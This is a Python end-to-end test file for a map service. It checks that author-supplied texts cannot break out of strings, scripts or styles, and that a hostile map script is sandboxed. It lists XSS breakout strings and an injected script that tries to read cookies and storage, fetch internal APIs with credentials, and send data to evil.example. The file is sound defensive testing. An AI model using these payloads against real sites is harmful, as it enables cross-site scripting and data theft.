"""A hostile map in a real browser: its texts stay texts, and a script in it reaches nothing of its viewer's."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from selenium.webdriver import Chrome
from tests.conftest import Standalone
from tests.e2e.first_page import FirstPage
from tests.waiting import until

BREAKING_OUT = (
    "</script><script>owned=1</script>",
    "</SCRIPT ><script>owned=1</script>",
    "</style><script>owned=1</script>",
    "<!--<script>",
    "<!-- --><script>owned=1</script><!--",
    "-->",
    "]]><script>owned=1</script>",
    "';owned=1;//",
    '"};owned=1;//',
    "`;owned=1;//${owned=1}",
    "\\\\",
    "\\u003c/script>\\u003cscript>owned=1",
    "\u2028owned=1\u2029",
    "\ufeff\u202e\u0085</script\u00a0>",
    "__proto__",
)
"""What has left a string, a script or a style sheet somewhere, once."""

# Every function that takes text from an author.
EVERYWHERE = """
import pandas, xatra
from xatra import Icon, gadm
for text in {texts!r}:
    xatra.Flag(text, gadm("BTN.1"), note=text, classes=text, display_label=text)
    xatra.River(text, {{"type": "Feature", "properties": {{text: text}}, "geometry":
                {{"type": "LineString", "coordinates": [[89, 27], [90, 28]]}}}}, note=text, classes=text, show_label=True)
    xatra.Path(text, [[27, 89], [28, 90]], note=text, classes=text, show_label=True)
    xatra.Point(text, [27, 89], note=text, classes=text, icon=Icon(text), show_label=True)
    xatra.Text(text, [27, 90], note=text, classes=text)
    xatra.TitleBox(text)
    xatra.CSS(text)
    xatra.BaseOption("https://tiles.example/" + text, name=text)
    xatra.Admin("BTN", level=1, classes=text)
    xatra.Data("BTN.2", 1, classes=text)
    xatra.Dataframe(pandas.DataFrame({{"GID": ["BTN.3"], "value": [1], "note": [text]}}), classes=text)
    xatra.Geocoder("nominatim", text)
"""

# Writes down how each attempt went; what a test does not await goes on in the background.
SCRIPT = """
const tried = {};
const attempt = async (name, trial) => {
  try { tried[name] = String(await trial()); } catch (error) { tried[name] = 'refused: ' + error.name; }
};
Promise.all([
  attempt('origin', () => self.origin),
  attempt('cookie', () => document.cookie),
  attempt('storage', () => localStorage.length),
  attempt('parent', () => parent.document.title),
  attempt('opener', () => top.document.cookie),
  attempt('siblings', () => parent.frames[0] === window ? 'only me' : parent.frames[0].document.title),
  attempt('top', () => { top.location = 'https://evil.example/'; return 'asked'; }),
  attempt('files', () => fetch('/xatra/api/files', { credentials: 'include' }).then(answer => answer.text())),
  attempt('main', () => fetch('MAIN/api/files', { credentials: 'include' }).then(answer => answer.text())),
  attempt('write', () => fetch('MAIN/api/renders', { method: 'POST', mode: 'no-cors', body: '{}' })),
  attempt('map', () => fetch(location.href).then(answer => answer.text())),
  attempt('beacon', () => fetch('https://evil.example/?' + document.title)),
  attempt('worker', () => navigator.serviceWorker.register(document.scripts[0].src)),
  attempt('eval', () => eval('1 + 1')),
  attempt('frame', () => new Promise(resolve => {
    const frame = document.createElement('iframe');
    frame.src = 'MAIN/';
    frame.onload = () => resolve(frame.contentDocument ? 'read' : 'closed');
    document.body.append(frame);
    setTimeout(() => resolve('closed'), 500);
  })),
  attempt('messages', () => { for (let n = 0; n < 1000; n++) parent.postMessage({ type: 'x', n }, '*'); return 'sent'; }),
]).then(() => { document.documentElement.dataset.tried = JSON.stringify(tried); });
"""


TILES = """
import xatra
xatra.BaseOption("OpenStreetMap", default=True)
xatra.BaseOption("Esri.WorldTerrain")
xatra.TitleBox("tiles")
"""


def attack_on(main_url: str) -> str:
    script = SCRIPT.replace("MAIN", main_url.rstrip("/")).replace("\n", " ")
    return f"""
import xatra
xatra.TitleBox({f'<img src="data:," onerror="{script}">'!r})
"""


def in_map(page: FirstPage, script: str) -> object:
    """Return what a script has to say that runs in the frame of the map."""
    page.browser.switch_to.frame(page.element("#map"))
    try:
        return page.browser.execute_script(script)
    finally:
        page.browser.switch_to.default_content()


def tried_by_map(page: FirstPage) -> dict[str, str]:
    """Return what became of each attempt."""
    found = until(lambda: in_map(page, "return document.documentElement.dataset.tried"))
    tried: dict[str, str] = json.loads(str(found))
    return tried


def address_of_map(page: FirstPage) -> str:
    return str(page.browser.execute_script("return document.querySelector('#map').src"))


def shown(page: FirstPage, program: str) -> None:
    """Render a program that is not the one before, and wait for its map."""
    former = address_of_map(page)
    page.render(program)
    page.wait_until(lambda: address_of_map(page) != former, "another map", seconds=60)
    until(lambda: in_map(page, "return document.readyState === 'complete' && !!document.querySelector('#baseLayer')"))


def asked_for(page: FirstPage) -> dict[str, str]:
    """Open the map alone; return each address that it then asks for, with the referrer that it gives."""
    address = address_of_map(page)
    page.browser.get_log("performance")
    page.browser.get(address)
    until(lambda: page.browser.execute_script("return !!document.querySelector('#baseLayer')"))
    messages = [json.loads(entry["message"])["message"] for entry in page.browser.get_log("performance")]
    requests = [
        message["params"]["request"] for message in messages if message["method"] == "Network.requestWillBeSent"
    ]
    return {request["url"]: request["headers"].get("Referer", "") for request in requests if request["url"] != address}


@pytest.fixture
def site_page(
    browser: Chrome, servers_home: Path, redis_program: Path, map_data: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[FirstPage]:
    """Open the first page of a service whose maps have a site of their own."""
    service = Standalone(servers_home / "site", redis_program=redis_program, map_data=map_data)
    monkeypatch.setenv("ARTEFACT_ORIGIN", f"http://maps.localhost:{service.port}")
    service.start()
    page = FirstPage(browser, service.url)
    page.open()
    yield page
    service.stop()


def test_no_text_of_an_author_is_more_than_text(page: FirstPage) -> None:
    shown(page, "import xatra\nxatra.TitleBox('a')\n")
    scripts = in_map(page, "return document.scripts.length")
    shown(page, EVERYWHERE.format(texts=BREAKING_OUT))

    assert (
        in_map(page, "return document.scripts.length - document.querySelectorAll('#map script, #title script').length")
        == scripts
    )
    assert in_map(page, "return typeof owned") == "undefined"
    assert in_map(page, "return payload.texts.map(text => text.label)") == list(BREAKING_OUT)


def test_a_hostile_map_reaches_nothing(page: FirstPage) -> None:
    shown(page, attack_on(page.url))
    tried = tried_by_map(page)

    assert tried.pop("origin") == "null"
    assert tried.pop("messages") == "sent"
    assert tried.pop("siblings") == "only me"
    assert tried.pop("frame") == "closed"
    assert set(tried.values()) <= {"refused: SecurityError", "refused: TypeError", "refused: EvalError"}, tried
    assert page.browser.current_url == page.url
    assert page.state.startswith("Done")


def test_tiles_that_need_a_referrer_are_hidden_from_maps_without_a_site(page: FirstPage) -> None:
    shown(page, TILES)

    options = in_map(page, "return [...document.querySelector('#baseLayer').options].map(option => option.value)")
    assert options == ["none", "Esri.WorldTerrain"]
    assert "tiles are hidden" in str(
        in_map(page, "return document.querySelector('.leaflet-control-attribution').textContent")
    )
    requests = asked_for(page)
    assert any("/assets/" in address for address in requests)
    assert not any("tile.openstreetmap.org" in address for address in requests)
    assert set(requests.values()) == {""}


def test_on_a_site_of_their_own_maps_tell_tile_servers_who_asks_and_reach_no_more(site_page: FirstPage) -> None:
    shown(site_page, attack_on(site_page.url))
    tried = tried_by_map(site_page)
    origin = f"http://maps.localhost:{site_page.url.rsplit(':')[2].split('/')[0]}"

    assert tried.pop("origin") == origin
    assert tried.pop("cookie") == ""
    assert tried.pop("storage") == "0"
    assert tried.pop("messages") == "sent"
    assert tried.pop("siblings") == "only me"
    assert tried.pop("frame") == "closed"
    assert set(tried.values()) <= {"refused: SecurityError", "refused: TypeError", "refused: EvalError"}, tried
    assert site_page.browser.current_url == site_page.url

    shown(site_page, TILES)
    requests = asked_for(site_page)
    assert {referrer for address, referrer in requests.items() if "tile.openstreetmap.org" in address} == {f"{origin}/"}
